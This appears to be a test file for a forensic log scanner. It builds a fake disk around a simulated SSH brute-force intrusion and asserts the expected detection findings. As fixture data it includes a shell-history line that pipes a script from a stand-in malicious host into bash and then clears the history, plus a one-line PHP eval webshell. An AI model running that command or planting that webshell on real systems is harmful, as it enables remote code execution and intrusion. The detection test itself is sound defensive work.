import assert from 'node:assert/strict';
import { after, describe, it } from 'node:test';
import zlib from 'node:zlib';
import { scanFixture as scan } from './helpers/scan-fixture';
import { repeat, sshd, syslogLines } from './helpers/auth-log';
import { FakeRoot } from './helpers/fake-root';
import { accessLine } from './helpers/log-users';
import { bootRecord, lastlogFile, sshSession, UT, utmpFile } from './helpers/utmp';

// The seed 002 intrusion as an offline disk: SSH brute force, root login, dropper typed in the
// shell, logs partly cleaned, and a webshell on the side. Every logs finding is asserted.

const NOW = new Date('2026-11-20T00:00:00Z');
const roots: FakeRoot[] = [];
after(() => {
  for (const r of roots) r.remove();
});

function logFindings(result: Awaited<ReturnType<typeof scan>>['result']) {
  return result.findings
    .filter((f) => f.rule.startsWith('logs/'))
    .map((f) => `${f.severity} ${f.rule} ${f.user ?? '-'} ${f.ip ?? '-'} ${f.path ?? '-'} ${f.time ?? '-'}`);
}

describe('logs family on an offline root', () => {
  it('finds the whole break-in and nothing more', async () => {
    const root = new FakeRoot().base().write('/etc/timezone', 'Etc/UTC\n');
    roots.push(root);
    const attack = [...repeat(30, (i) => sshd.failed('root', '45.67.89.10', 51000 + i)), sshd.accepted('root', '45.67.89.10')];
    root.write(
      '/var/log/auth.log.2.gz',
      zlib.gzipSync(syslogLines(new Date('2026-11-10T08:00:00Z'), [sshd.accepted('root', '198.51.100.7', 'publickey')])),
      { mtime: new Date('2026-11-12T00:00:00Z') },
    );
    root.write('/var/log/auth.log', syslogLines(new Date('2026-11-19T03:00:00Z'), attack), { mtime: new Date('2026-11-19T23:00:00Z') });
    root.write(
      '/var/log/wtmp',
      utmpFile([
        bootRecord('2026-11-01T00:00:00Z'),
        ...sshSession('root', '198.51.100.7', '2026-11-10T08:00:00Z', '2026-11-10T08:30:00Z'),
        'zeroed',
        'zeroed',
        bootRecord('2026-11-19T06:00:00Z'),
      ]),
    );
    root.write(
      '/var/log/btmp',
      utmpFile(
        repeat(30, (i) => ({
          type: UT.LOGIN_PROCESS,
          user: 'root',
          line: 'ssh:notty',
          host: '45.67.89.10',
          addr: '45.67.89.10',
          at: `2026-11-19T03:00:${String(i).padStart(2, '0')}Z`,
        })),
      ),
    );
    root.write('/var/log/lastlog', lastlogFile([{ uid: 0, at: '2026-11-19T03:00:30Z', host: '45.67.89.10' }]));
    root.write('/root/.bash_history', 'wget -qO- http://malicious-site.com/m.sh | bash\nhistory -c\n', {
      mtime: new Date('2026-11-19T03:20:00Z'),
    });
    root.write('/var/www/html/uploads/x.php', '<?php @eval($_POST["z0"]); ?>', { mtime: new Date('2026-11-19T03:05:00Z') });
    root.write(
      '/var/log/nginx/access.log',
      repeat(25, (i) =>
        accessLine('45.67.89.10', `2026-11-19T03:10:${String(i).padStart(2, '0')}Z`, 'POST', '/uploads/x.php', 200, 'antSword/v2.1'),
      ).join(''),
    );

    const { result } = await scan({ root: root.dir, sampleMs: 0, now: NOW });
    assert.deepEqual(logFindings(result), [
      'critical logs/history-suspicious-commands root - /root/.bash_history 2026-11-19T03:20:00.000Z',
      'critical logs/ssh-login-after-bruteforce root 45.67.89.10 /var/log/auth.log 2026-11-19T03:00:30.000Z',
      'critical logs/webshell-content - - /var/www/html/uploads/x.php 2026-11-19T03:05:00.000Z',
      'high logs/history-suspicious-commands root - /root/.bash_history 2026-11-19T03:20:00.000Z',
      'high logs/login-records-tampered - - /var/log/wtmp 2026-11-19T06:00:00.000Z',
      'high logs/ssh-root-password-login root 45.67.89.10 /var/log/auth.log 2026-11-19T03:00:30.000Z',
      'high logs/web-attack-traffic - 45.67.89.10 - 2026-11-19T03:10:00.000Z',
      'high logs/webshell-access-pattern - 45.67.89.10 /uploads/x.php 2026-11-19T03:10:00.000Z',
      'medium logs/login-records-wiped root 45.67.89.10 /var/log/lastlog 2026-11-19T03:00:30.000Z',
      'medium logs/remote-root-login root 198.51.100.7 /var/log/wtmp 2026-11-10T08:00:00.000Z',
      'medium logs/ssh-bruteforce - 45.67.89.10 - 2026-11-19T03:00:29.000Z',
    ]);
    assert.ok(result.findings.filter((f) => f.rule.startsWith('logs/')).every((f) => f.time && !Number.isNaN(Date.parse(f.time))));
  });

  it('stays silent on a clean, freshly installed tree', async () => {
    const root = new FakeRoot()
      .base()
      .write('/var/log/wtmp', '')
      .write('/var/log/btmp', '')
      .write('/var/log/lastlog', '')
      .mkdir('/var/log/journal');
    roots.push(root);
    root.write('/root/.bash_history', 'apt update\nsystemctl status nginx\n').write('/var/www/html/index.html', '<h1>It works</h1>');
    const { result } = await scan({ root: root.dir, sampleMs: 0, now: NOW });
    assert.deepEqual(logFindings(result), []);
  });
});
